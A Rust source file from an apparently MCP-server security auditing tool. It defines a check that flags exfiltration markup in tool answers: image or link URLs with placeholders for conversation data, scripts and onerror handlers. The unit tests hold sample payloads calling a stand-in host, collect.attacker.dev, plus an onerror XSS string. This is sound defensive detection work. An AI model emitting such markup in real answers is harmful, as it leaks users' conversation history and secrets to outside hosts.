//! Markup in answers that sends something to a host when it is displayed.

use std::sync::LazyLock;

use contracts::audit::{Confidence, NamedTest, Severity};
use regex::Regex;

use super::answers::everything;
use crate::check::{Carriers, Check, Draft, Mode, Run, Tag, Verdict};
use crate::checks::data_exposure::outputs::nothing_read;
use crate::probe::{Probe, ProbeError};

pub(crate) const CHECK: Check = Check {
    id: "MCPA-RI-005",
    title: "Exfiltration markup",
    test: NamedTest::ResponseInjection,
    mode: Mode::Safe,
    carriers: Carriers::Any,
    worst: Severity::High,
    remediation: "Return text without images, frames, scripts and handlers, and let the client display it under a content security policy.",
    tags: &[Tag::Cwe(79), Tag::Cwe(201), Tag::McpTop10(6), Tag::LlmTop10(2), Tag::LlmTop10(10)],
    run: Run::Probe(|probe| Box::pin(check(probe))),
};

async fn check(probe: &Probe) -> Result<Verdict, ProbeError> {
    let Some(said) = everything(probe).await? else { return Ok(nothing_read()) };
    let drafts = said.iter().filter_map(|said| {
        let (kind, range) = markup(&said.text)?;
        if said.is_ours(&range) {
            return None;
        }
        let (severity, message) = match kind {
            "slot" => (
                Severity::High,
                "an answer holds an address with a place for data, which a client opens when it displays it",
            ),
            _ => (Severity::Medium, "an answer holds a script or an event handler"),
        };
        let sample = said.sample(range, format!("markup:{kind}"));
        Some(Draft::new(severity, Confidence::Likely, said.location.clone(), message).distinct(kind).sample(sample))
    });
    Ok(drafts.collect())
}

/// Markup that carries data out, or runs: what it is, and where.
fn markup(text: &str) -> Option<(&'static str, std::ops::Range<usize>)> {
    // What a client fetches or follows by itself: images, frames, links. The address is the group.
    static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?i)!?\[[^\]\n]{0,200}\]\(\s*(?P<markdown>https?://[^)\s]+)|<(?:img|iframe|image|embed|object|source|link|a)\b[^>]{0,400}?\b(?:src|href|data)\s*=\s*["']?(?P<html>https?://[^"'>\s]+)"#)
            .expect("a fixed pattern")
    });
    // A query whose value is still to be filled in.
    static SLOT: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)\?.*(?:\{[^}]*\}|<[^>]*>|%7b|%3c|\[[a-z _-]{2,}\]|\$[a-z{(]|=(?:$|&)|=(?:data|content|secret|token|history|conversation|here|value|placeholder|your|insert|encoded|base64)[a-z0-9_-]*(?:$|&))|\{\{[^}]*\}\}")
            .expect("a fixed pattern")
    });
    static ACTIVE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"(?i)<script\b[^>]{0,400}>|<[a-z][a-z0-9]*\b[^>]{0,400}?\son(?:error|load|click|mouseover|focus)\s*=",
        )
        .expect("a fixed pattern")
    });
    if !text.contains(['<', '[']) {
        return None;
    }
    let slot = ADDRESS.captures_iter(text).find_map(|found| {
        let address = found.name("markdown").or_else(|| found.name("html"))?;
        SLOT.is_match(address.as_str()).then(|| found.get(0).map(|whole| whole.range()))?
    });
    slot.map(|range| ("slot", range)).or_else(|| ACTIVE.find(text).map(|found| ("active", found.range())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slots_and_scripts_are_found_and_ordinary_links_are_not() {
        let kind = |text: &str| markup(text).map(|(kind, _)| kind);
        assert_eq!(kind("![logo](https://collect.attacker.dev/p.png?d={conversation})"), Some("slot"));
        assert_eq!(kind("<img src=\"https://collect.attacker.dev/p?d=\">"), Some("slot"));
        assert_eq!(kind("[more](https://collect.attacker.dev/?q=<history>)"), Some("slot"));
        assert_eq!(kind("<img src=x onerror=alert(1)>"), Some("active"));
        assert_eq!(kind("[result](https://vendor.dev/page?id=17&lang=en)"), None);
        assert_eq!(kind("![chart](https://vendor.dev/chart.png)"), None);
        assert_eq!(kind("array[0](1) < 2"), None);
    }
}
